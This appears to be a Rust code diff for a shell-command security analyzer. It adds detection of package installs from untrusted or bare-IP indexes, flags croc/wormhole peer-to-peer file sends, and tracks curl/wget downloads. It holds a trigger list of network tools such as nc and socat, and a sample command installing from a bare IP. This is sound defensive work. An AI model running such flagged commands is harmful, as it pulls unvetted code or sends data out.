@@ -62,8 +62,59 @@ pub(crate) const DETECTOR: Detector = Detector {
 pub(crate) const REMOTE_CODE_DETECTOR: Detector = Detector {
     id: "shell/remote_code",
     intents: &[Intent::ExecRemoteCode],
-    triggers: &["curl", "wget", "nc", "ncat", "socat", "fetch"],
+    triggers: &[
+        "curl", "wget", "nc", "ncat", "socat", "fetch", "pip", "pip3", "npm", "pnpm", "yarn", "gem", "croc", "wormhole",
+    ],
 };
+
+/// `pip install --index-url http://203.0.113.15/simple pkg`, `npm install http://x/p.tgz`: a
+/// package's install code runs on the machine, so a package from a request catcher, a bare IP or
+/// plain HTTP (anyone on the path can swap it) is code from nowhere. Registries and the
+/// organisation's own indexes pass.
+pub(crate) fn package_install(inv: &Invocation<'_>, name: &str, st: &ShellState<'_>, facts: &mut Facts) {
+    let v = inv.values();
+    let installs = v
+        .iter()
+        .skip(1)
+        .find(|a| !a.starts_with('-'))
+        .is_some_and(|verb| matches!(*verb, "install" | "i" | "add" | "update" | "upgrade" | "download"));
+    if !installs {
+        return;
+    }
+    let sources = v.iter().enumerate().skip(1).filter_map(|(i, a)| {
+        if matches!(
+            *a,
+            "-i" | "--index-url" | "--extra-index-url" | "--registry" | "--source" | "-s" | "--find-links" | "-f"
+        ) {
+            v.get(i + 1).copied()
+        } else if let Some((flag, value)) = a.split_once('=') {
+            matches!(flag, "--index-url" | "--extra-index-url" | "--registry" | "--source" | "--find-links")
+                .then_some(value)
+        } else {
+            (a.contains("://")).then_some(*a)
+        }
+    });
+    for source in sources {
+        let url = source.trim_start_matches("git+");
+        let host = host_of(url);
+        let class = classify(&host, url, &st.policy.destinations);
+        let untrusted =
+            matches!(class, HostClass::Untrusted | HostClass::BareIp) || (url.starts_with("http://") && class.leaves());
+        if untrusted {
+            facts.push(inv.fact(
+                Intent::ExecRemoteCode,
+                Severity::High,
+                REMOTE_CODE_DETECTOR.id,
+                Some(Target { kind: "location", name: url.to_owned() }),
+                format!(
+                    "`{name}` installs a package from `{url}`, {}: its install code runs here",
+                    class.describe(&host)
+                ),
+            ));
+            return;
+        }
+    }
+}
 
 /// In a cluster of short options (`-sT`), the first one that takes a value, and what follows it
 /// in the same word.
@@ -144,6 +195,23 @@ pub(crate) fn check(inv: &Invocation<'_>, name: &str, st: &mut ShellState<'_>, f
                         send(inv, &host, &host, flow_of_path(local), st.policy, facts);
                     }
                 }
+            }
+            Flow::Unknown
+        }
+        // Peer-to-peer senders: what they send goes through a public relay to whoever has the code.
+        "croc" | "wormhole" if inv.args.get(1).is_some_and(|a| a.value == "send") => {
+            let with_value = ["--code", "-c", "--text", "--relay", "--transit-helper"];
+            let mut i = 2;
+            while let Some(a) = inv.args.get(i) {
+                if with_value.contains(&a.value.as_str()) {
+                    i += 2;
+                    continue;
+                }
+                if !a.value.starts_with('-') {
+                    let relay = if name == "croc" { "croc.schollz.com" } else { "relay.magic-wormhole.io" };
+                    send(inv, relay, relay, flow_of_path(&a.value), st.policy, facts);
+                }
+                i += 1;
             }
             Flow::Unknown
         }
@@ -341,6 +409,8 @@ fn curl(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flo
     let mut bodies: Vec<&str> = Vec::new();
     let mut headers: Vec<&str> = Vec::new();
     let mut to_file = false;
+    let mut output: Option<&str> = None;
+    let mut remote_name = false;
     let mut i = 1;
     while i < args.len() {
         let a = &args[i];
@@ -365,6 +435,7 @@ fn curl(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flo
                     || (v.starts_with('-') && !v.starts_with("--") && v.contains('O'))
                 {
                     to_file = true;
+                    remote_name = true;
                 }
             } else {
                 urls.push(v.to_owned());
@@ -398,7 +469,11 @@ fn curl(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flo
             "-T" | "--upload-file" => {
                 uploads.push(if value == "-" || value == "." { inv.stdin.clone() } else { flow_of_path(value) })
             }
-            "-o" | "--output" | "--output-dir" => to_file = value != "-",
+            "-o" | "--output" => {
+                to_file = value != "-";
+                output = Some(value);
+            }
+            "--output-dir" => to_file = true,
             "--url" => urls.push(value.to_owned()),
             _ => {}
         }
@@ -406,7 +481,21 @@ fn curl(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flo
     }
     literal_payload(inv, &urls, &bodies, &headers, st, facts);
     variables_sent(inv, &urls, &bodies, &headers, st, facts);
+    // `curl -o file URL`, `curl -O URL/name`: the file now holds the download.
+    if let Some(url) = urls.first() {
+        match (output, remote_name) {
+            (Some(file), _) => st.downloaded(file, url),
+            (None, true) => st.downloaded(url_file_name(url), url),
+            _ => {}
+        }
+    }
     requests(inv, &urls, &uploads, !to_file, st, facts)
+}
+
+/// The name a download gets from its URL (`https://x/get/install.sh?v=2` → `install.sh`).
+fn url_file_name(url: &str) -> &str {
+    let path = url.split(['?', '#']).next().unwrap_or(url);
+    path.rsplit('/').next().unwrap_or(path)
 }
 
 /// Judges literal bodies and headers sent to each URL.
@@ -532,6 +621,7 @@ fn wget(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flo
     let mut bodies: Vec<&str> = Vec::new();
     let mut headers: Vec<&str> = Vec::new();
     let mut to_stdout = false;
+    let mut output: Option<&str> = None;
     let mut i = 1;
     while i < args.len() {
         let v = args[i].value.as_str();
@@ -541,7 +631,10 @@ fn wget(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flo
                 "--post-file" | "--body-file" => uploads.push(flow_of_path(val)),
                 "--post-data" | "--body-data" => bodies.push(val),
                 "--header" => headers.push(val),
-                "--output-document" => to_stdout = val == "-",
+                "--output-document" => {
+                    to_stdout = val == "-";
+                    output = Some(val);
+                }
                 _ => {}
             }
             i += 1;
@@ -552,7 +645,10 @@ fn wget(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flo
                 "--post-file" | "--body-file" => uploads.push(flow_of_path(next)),
                 "--post-data" | "--body-data" => bodies.push(next),
                 "--header" => headers.push(next),
-                "-O" | "--output-document" => to_stdout = next == "-",
+                "-O" | "--output-document" => {
+                    to_stdout = next == "-";
+                    output = Some(next);
+                }
                 _ => {}
             }
             i += 2;
@@ -576,6 +672,14 @@ fn wget(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flo
     }
     literal_payload(inv, &urls, &bodies, &headers, st, facts);
     variables_sent(inv, &urls, &bodies, &headers, st, facts);
+    // `wget -O file URL`, or `wget URL`, which saves under the URL's file name.
+    if let Some(url) = urls.first() {
+        match output {
+            Some(file) => st.downloaded(file, url),
+            None if !to_stdout => st.downloaded(url_file_name(url), url),
+            None => {}
+        }
+    }
     requests(inv, &urls, &uploads, to_stdout, st, facts)
 }
 
